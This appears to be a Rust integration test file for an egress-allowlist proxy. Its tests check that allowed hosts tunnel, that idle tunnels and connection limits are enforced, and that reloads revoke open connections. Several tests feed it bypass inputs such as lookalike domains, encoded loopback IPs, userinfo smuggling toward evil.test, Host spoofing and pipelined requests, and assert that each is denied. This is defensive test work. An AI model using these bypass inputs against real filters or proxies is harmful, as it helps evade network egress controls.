//! The proxy over real sockets, in a private network namespace per test.
//! Attack rows pass only when the attack fails: the guard answers 403 with
//! the exact reason, audits it, and no canary listener sees a connection.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use hermes_egress::audit::AuditRecord;
use hermes_egress::server::{AllowlistHandle, Guard, GuardConfig, MemoryAudit, StaticResolver};
use hermes_egress::Allowlist;
use support::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

struct Running {
    addr: SocketAddr,
    audit: Arc<MemoryAudit>,
    allowlist: AllowlistHandle,
    _stop: tokio::sync::oneshot::Sender<()>,
}

/// Starts a guard allowing `allowed.test` and `github.com`; every test name
/// resolves to the fake public upstream except `private.test`.
async fn start_guard(config: GuardConfig) -> Running {
    let resolver = StaticResolver::new()
        .with("allowed.test", ip(PUBLIC))
        .with("github.com", ip(PUBLIC))
        .with("github.com.evil.test", ip(PUBLIC))
        .with("evilgithub.com", ip(PUBLIC))
        .with("private.test", ip(PRIVATE))
        .with("mixed.allowed.test", ip(PUBLIC))
        .with("mixed.allowed.test", ip(PRIVATE));
    let (allowlist, dropped) = Allowlist::parse("allowed.test,github.com,private.test");
    assert!(dropped.is_empty());
    let audit = Arc::new(MemoryAudit::default());
    let guard = Guard::new(config, allowlist, Arc::new(resolver), audit.clone());
    let handle = guard.allowlist_handle();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    tokio::spawn(guard.serve(listener, async move {
        let _ = stopped.await;
    }));
    Running {
        addr,
        audit,
        allowlist: handle,
        _stop: stop,
    }
}

fn last_audit(running: &Running) -> AuditRecord {
    running
        .audit
        .records()
        .last()
        .cloned()
        .expect("an audit record")
}

#[test]
fn connect_to_allowed_host_tunnels_both_ways() {
    in_private_netns("connect_to_allowed_host_tunnels_both_ways", || async {
        let upstream = echo_upstream(format!("{PUBLIC}:443").parse().unwrap()).await;
        let guard = start_guard(GuardConfig::default()).await;
        let (reply, mut stream) = connect_via(guard.addr, "allowed.test:443").await;
        assert_eq!(reply.status, 200, "{reply:?}");
        assert_eq!(read_n(&mut stream, 15).await, "upstream-hello\n");
        stream.write_all(b"ping through the tunnel").await.unwrap();
        assert_eq!(read_n(&mut stream, 23).await, "ping through the tunnel");
        assert_eq!(upstream.get(), 1);

        let record = last_audit(&guard);
        assert_eq!(
            (
                record.decision,
                record.host.as_str(),
                record.port,
                record.proto,
                record.reason.as_str()
            ),
            (
                "allow",
                "allowed.test",
                443,
                "connect",
                "host matches allowlist entry allowed.test"
            )
        );
        assert_eq!(record.addrs, vec![ip(PUBLIC)]);
        let line: serde_json::Value = serde_json::from_str(&record.to_json_line()).unwrap();
        for field in ["ts", "decision", "host", "port", "proto", "reason"] {
            assert!(
                line.get(field).is_some(),
                "audit line lacks {field}: {line}"
            );
        }
    });
}

#[test]
fn attacks_through_the_guard_are_denied_and_audited() {
    in_private_netns(
        "attacks_through_the_guard_are_denied_and_audited",
        || async {
            let public_tls = echo_upstream(format!("{PUBLIC}:443").parse().unwrap()).await;
            let public_ssh = canary(format!("{PUBLIC}:22").parse().unwrap()).await;
            let private = canary(format!("{PRIVATE}:443").parse().unwrap()).await;
            let loopback = canary("127.0.0.1:443".parse().unwrap()).await;
            let guard = start_guard(GuardConfig::default()).await;
            // (CONNECT authority, audited host, port, reason)
            let rows: &[(&str, &str, u16, &str)] = &[
                (
                    "github.com.evil.test:443",
                    "github.com.evil.test",
                    443,
                    "host is not on the allowlist",
                ),
                (
                    "evilgithub.com:443",
                    "evilgithub.com",
                    443,
                    "host is not on the allowlist",
                ),
                (
                    "2130706433:443",
                    "2130706433",
                    443,
                    "IP literals are not allowed",
                ),
                ("0x7f.1:443", "0x7f.1", 443, "IP literals are not allowed"),
                (
                    "127.0.0.1:443",
                    "127.0.0.1",
                    443,
                    "IP literals are not allowed",
                ),
                (
                    "[::ffff:127.0.0.1]:443",
                    "[::ffff:127.0.0.1]",
                    443,
                    "IP literals are not allowed",
                ),
                ("[::1]:443", "[::1]", 443, "IP literals are not allowed"),
                (
                    "private.test:443",
                    "private.test",
                    443,
                    "resolved address 10.0.0.5 is a private address",
                ),
                (
                    "mixed.allowed.test:443",
                    "mixed.allowed.test",
                    443,
                    "resolved address 10.0.0.5 is a private address",
                ),
                (
                    "user@allowed.test:443",
                    "user@allowed.test",
                    443,
                    "userinfo is not allowed",
                ),
                (
                    "allowed.test:22",
                    "allowed.test",
                    22,
                    "port 22 is not allowed (only 80 and 443)",
                ),
            ];
            for (authority, host, port, reason) in rows {
                let (reply, _stream) = connect_via(guard.addr, authority).await;
                assert_eq!(reply.status, 403, "{authority}: {reply:?}");
                assert_eq!(
                    reply.body,
                    format!("Egress denied: {reason}"),
                    "{authority}"
                );
                let record = last_audit(&guard);
                assert_eq!(
                    (
                        record.decision,
                        record.host.as_str(),
                        record.port,
                        record.proto,
                        record.reason.as_str()
                    ),
                    ("deny", *host, *port, "connect", *reason),
                    "{authority}"
                );
            }
            // The allowed twin of every row above reaches the upstream.
            let (reply, _stream) = connect_via(guard.addr, "github.com:443").await;
            assert_eq!(reply.status, 200);
            tokio::time::sleep(Duration::from_millis(50)).await;
            assert_eq!(
                (
                    public_tls.get(),
                    public_ssh.get(),
                    private.get(),
                    loopback.get()
                ),
                (1, 0, 0, 0)
            );
            assert_eq!(guard.audit.records().len(), rows.len() + 1);
        },
    );
}

#[test]
fn absolute_form_http_is_forwarded_with_the_checked_host() {
    in_private_netns(
        "absolute_form_http_is_forwarded_with_the_checked_host",
        || async {
            let upstream = http_upstream(format!("{PUBLIC}:80").parse().unwrap()).await;
            let guard = start_guard(GuardConfig::default()).await;
            let reply = request_via(
            guard.addr,
            "GET http://allowed.test/repo.git/info/refs?service=git-upload-pack HTTP/1.1\r\n\
             Host: evil.test\r\nProxy-Authorization: Basic c2VjcmV0\r\nProxy-Connection: keep-alive\r\n\
             Connection: close\r\nX-Kept: 1\r\n\r\n",
        )
        .await;
            assert_eq!(reply.status, 200, "{reply:?}");
            let seen = reply.body.to_ascii_lowercase();
            assert!(
                seen.starts_with("get /repo.git/info/refs?service=git-upload-pack http/1.1\r\n"),
                "{seen}"
            );
            assert!(seen.contains("host: allowed.test\r\n"), "{seen}");
            assert!(!seen.contains("evil.test"), "{seen}");
            assert!(
                !seen.contains("proxy-authorization") && !seen.contains("proxy-connection"),
                "{seen}"
            );
            assert!(seen.contains("x-kept: 1"), "{seen}");
            assert_eq!(upstream.get(), 1);
            let record = last_audit(&guard);
            assert_eq!(
                (record.decision, record.proto, record.port),
                ("allow", "http", 80)
            );

            // Denied twin, with a body, is refused before any upstream byte.
            let reply = request_via(
            guard.addr,
            "POST http://evil.test/upload HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 4\r\n\r\ndata",
        )
        .await;
            assert_eq!(
                (reply.status, reply.body.as_str()),
                (403, "Egress denied: host is not on the allowlist")
            );
            let reply = request_via(
                guard.addr,
                "GET /origin-form HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
            )
            .await;
            assert_eq!(
                (reply.status, reply.body.as_str()),
                (
                    403,
                    "Egress denied: request target must be an absolute http:// URI"
                )
            );
            let reply = request_via(
                guard.addr,
                "GET http://github.com:80@evil.test/ HTTP/1.1\r\nHost: x\r\n\r\n",
            )
            .await;
            assert_eq!(
                (reply.status, reply.body.as_str()),
                (403, "Egress denied: userinfo is not allowed")
            );
            assert_eq!(upstream.get(), 1);
        },
    );
}

#[test]
fn tunnel_limit_is_enforced_and_released() {
    in_private_netns("tunnel_limit_is_enforced_and_released", || async {
        let _upstream = echo_upstream(format!("{PUBLIC}:443").parse().unwrap()).await;
        let guard = start_guard(GuardConfig {
            max_tunnels: 2,
            ..GuardConfig::default()
        })
        .await;
        let (first, mut one) = connect_via(guard.addr, "allowed.test:443").await;
        let (second, _two) = connect_via(guard.addr, "allowed.test:443").await;
        assert_eq!((first.status, second.status), (200, 200));
        let (third, _three) = connect_via(guard.addr, "allowed.test:443").await;
        assert_eq!(third.status, 503);
        assert_eq!(
            third.body,
            "Egress denied: too many concurrent connections (limit 2)"
        );
        assert_eq!(
            last_audit(&guard).reason,
            "too many concurrent connections (limit 2)"
        );

        // Closing a tunnel frees its slot.
        one.shutdown().await.unwrap();
        drop(one);
        let mut status = 0;
        for _ in 0..50 {
            let (reply, _stream) = connect_via(guard.addr, "allowed.test:443").await;
            status = reply.status;
            if status == 200 {
                break;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        assert_eq!(status, 200);
    });
}

#[test]
fn idle_tunnels_are_closed_and_busy_ones_are_not() {
    in_private_netns("idle_tunnels_are_closed_and_busy_ones_are_not", || async {
        let _upstream = echo_upstream(format!("{PUBLIC}:443").parse().unwrap()).await;
        let config = GuardConfig {
            idle_timeout: Duration::from_millis(300),
            ..GuardConfig::default()
        };
        let guard = start_guard(config).await;

        let (reply, mut busy) = connect_via(guard.addr, "allowed.test:443").await;
        assert_eq!(reply.status, 200);
        assert_eq!(read_n(&mut busy, 15).await, "upstream-hello\n");
        let (reply, mut idle) = connect_via(guard.addr, "allowed.test:443").await;
        assert_eq!(reply.status, 200);
        assert_eq!(read_n(&mut idle, 15).await, "upstream-hello\n");

        for _ in 0..8 {
            tokio::time::sleep(Duration::from_millis(100)).await;
            busy.write_all(b"x").await.unwrap();
            assert_eq!(read_n(&mut busy, 1).await, "x");
        }
        // 800 ms without a byte on `idle`: the guard has closed it.
        let mut buf = [0u8; 1];
        let read = tokio::time::timeout(Duration::from_secs(2), idle.read(&mut buf))
            .await
            .unwrap();
        assert!(
            matches!(read, Ok(0) | Err(_)),
            "idle tunnel still open: {read:?}"
        );
        busy.write_all(b"y").await.unwrap();
        assert_eq!(read_n(&mut busy, 1).await, "y");
    });
}

#[test]
fn reload_narrows_without_an_open_window() {
    in_private_netns("reload_narrows_without_an_open_window", || async {
        let _upstream = echo_upstream(format!("{PUBLIC}:443").parse().unwrap()).await;
        let guard = start_guard(GuardConfig::default()).await;
        let (reply, mut open) = connect_via(guard.addr, "allowed.test:443").await;
        assert_eq!(reply.status, 200);
        assert_eq!(read_n(&mut open, 15).await, "upstream-hello\n");

        guard.allowlist.replace(Allowlist::parse("github.com").0);
        // New requests see the new list at once...
        let (reply, _) = connect_via(guard.addr, "allowed.test:443").await;
        assert_eq!(
            (reply.status, reply.body.as_str()),
            (403, "Egress denied: host is not on the allowlist")
        );
        let (reply, _) = connect_via(guard.addr, "github.com:443").await;
        assert_eq!(reply.status, 200);
        // ...and the tunnel opened under the old list is closed and audited.
        let mut buf = [0u8; 1];
        let read = tokio::time::timeout(Duration::from_secs(2), open.read(&mut buf))
            .await
            .unwrap();
        assert!(
            matches!(read, Ok(0) | Err(_)),
            "revoked tunnel still open: {read:?}"
        );
        let revoked = guard.audit.records().into_iter().any(|record| {
            record.reason == "allowlist reloaded: host is not on the allowlist"
                && record.host == "allowed.test"
        });
        assert!(revoked);

        guard.allowlist.replace(Allowlist::deny_all());
        let (reply, _) = connect_via(guard.addr, "github.com:443").await;
        assert_eq!(
            (reply.status, reply.body.as_str()),
            (
                403,
                "Egress denied: allowlist is empty: all egress is denied"
            )
        );
    });
}

#[test]
fn bytes_sent_with_the_connect_head_and_half_close_are_carried() {
    in_private_netns(
        "bytes_sent_with_the_connect_head_and_half_close_are_carried",
        || async {
            let _upstream = echo_upstream(format!("{PUBLIC}:443").parse().unwrap()).await;
            let guard = start_guard(GuardConfig::default()).await;
            let mut stream = tokio::net::TcpStream::connect(guard.addr).await.unwrap();
            // A client that does not wait for 200 (TLS ClientHello right behind
            // the head) must not lose those bytes.
            stream
            .write_all(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\nearly-bytes")
            .await
            .unwrap();
            let reply = read_reply(&mut stream).await;
            assert_eq!(reply.status, 200);
            assert_eq!(
                read_n(&mut stream, 15 + 11).await,
                "upstream-hello\nearly-bytes"
            );
            // Half-close: the upstream sees EOF, finishes, and the client sees EOF.
            stream.write_all(b"last").await.unwrap();
            stream.shutdown().await.unwrap();
            let mut rest = String::new();
            tokio::time::timeout(Duration::from_secs(2), stream.read_to_string(&mut rest))
                .await
                .unwrap()
                .unwrap();
            assert_eq!(rest, "last");
        },
    );
}

#[test]
fn unresolvable_names_are_denied_and_audited() {
    in_private_netns("unresolvable_names_are_denied_and_audited", || async {
        let guard = start_guard(GuardConfig::default()).await;
        // On the list, but the static resolver has no answer.
        let (reply, _) = connect_via(guard.addr, "nowhere.allowed.test:443").await;
        assert_eq!(
            (reply.status, reply.body.as_str()),
            (403, "Egress denied: host could not be resolved")
        );
        let record = last_audit(&guard);
        assert_eq!(
            (record.decision, record.host.as_str()),
            ("deny", "nowhere.allowed.test")
        );
    });
}

#[test]
fn client_connection_limit_closes_extra_connections() {
    in_private_netns(
        "client_connection_limit_closes_extra_connections",
        || async {
            let _upstream = echo_upstream(format!("{PUBLIC}:443").parse().unwrap()).await;
            let guard = start_guard(GuardConfig {
                max_clients: 1,
                ..GuardConfig::default()
            })
            .await;
            let (reply, held) = connect_via(guard.addr, "allowed.test:443").await;
            assert_eq!(reply.status, 200);
            // The second client is closed on accept, before any byte is read.
            let mut extra = tokio::net::TcpStream::connect(guard.addr).await.unwrap();
            let mut buf = [0u8; 1];
            let read = tokio::time::timeout(Duration::from_secs(2), extra.read(&mut buf))
                .await
                .unwrap();
            assert!(
                matches!(read, Ok(0) | Err(_)),
                "extra client was served: {read:?}"
            );
            // Its twin, once the first client has gone, is served.
            drop(held);
            let mut status = 0;
            for _ in 0..50 {
                tokio::time::sleep(Duration::from_millis(20)).await;
                let (reply, _stream) = connect_via(guard.addr, "allowed.test:443").await;
                status = reply.status;
                if status == 200 {
                    break;
                }
            }
            assert_eq!(status, 200);
        },
    );
}

#[test]
fn reload_closes_a_running_http_forward() {
    in_private_netns("reload_closes_a_running_http_forward", || async {
        // An upstream that answers the head, then trickles a body forever.
        let listener = TcpListener::bind(format!("{PUBLIC}:80")).await.unwrap();
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                tokio::spawn(async move {
                    read_head(&mut stream).await;
                    let _ = stream
                        .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n")
                        .await;
                    while stream.write_all(b"x").await.is_ok() {
                        tokio::time::sleep(Duration::from_millis(20)).await;
                    }
                });
            }
        });
        let guard = start_guard(GuardConfig::default()).await;
        let mut stream = tokio::net::TcpStream::connect(guard.addr).await.unwrap();
        stream
            .write_all(b"GET http://allowed.test/big HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
            .await
            .unwrap();
        let head = read_head(&mut stream).await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        assert_eq!(read_n(&mut stream, 3).await, "xxx");

        guard.allowlist.replace(Allowlist::parse("github.com").0);
        let mut sink = Vec::new();
        // The response must end (EOF or reset) within 2 s instead of
        // trickling on for the remaining ~20 s of its body.
        let ended =
            tokio::time::timeout(Duration::from_secs(2), stream.read_to_end(&mut sink)).await;
        assert!(ended.is_ok(), "forward kept streaming after the reload");
        assert!(sink.len() < 1000, "forward kept streaming after the reload");
    });
}

#[test]
fn each_request_on_a_keep_alive_connection_is_decided_on_its_own() {
    in_private_netns(
        "each_request_on_a_keep_alive_connection_is_decided_on_its_own",
        || async {
            let upstream = http_upstream(format!("{PUBLIC}:80").parse().unwrap()).await;
            let evil = canary(format!("{PRIVATE}:80").parse().unwrap()).await;
            let guard = start_guard(GuardConfig::default()).await;
            let mut stream = tokio::net::TcpStream::connect(guard.addr).await.unwrap();
            // Pipelined: an allowed request, then one for a host the first
            // upstream must never see, on the same client connection.
            stream
                .write_all(
                    b"GET http://allowed.test/one HTTP/1.1\r\nHost: allowed.test\r\n\r\n\
                  GET http://evilgithub.com/two HTTP/1.1\r\nHost: evilgithub.com\r\n\r\n\
                  GET http://private.test/three HTTP/1.1\r\nHost: private.test\r\n\r\n",
                )
                .await
                .unwrap();
            let first = read_reply(&mut stream).await;
            assert_eq!(first.status, 200, "{first:?}");
            assert!(first.body.starts_with("GET /one HTTP/1.1\r\n"), "{first:?}");
            let second = read_reply(&mut stream).await;
            assert_eq!(
                (second.status, second.body.as_str()),
                (403, "Egress denied: host is not on the allowlist")
            );
            let third = read_reply(&mut stream).await;
            assert_eq!(
                (third.status, third.body.as_str()),
                (
                    403,
                    "Egress denied: resolved address 10.0.0.5 is a private address"
                )
            );
            assert_eq!((upstream.get(), evil.get()), (1, 0));
        },
    );
}
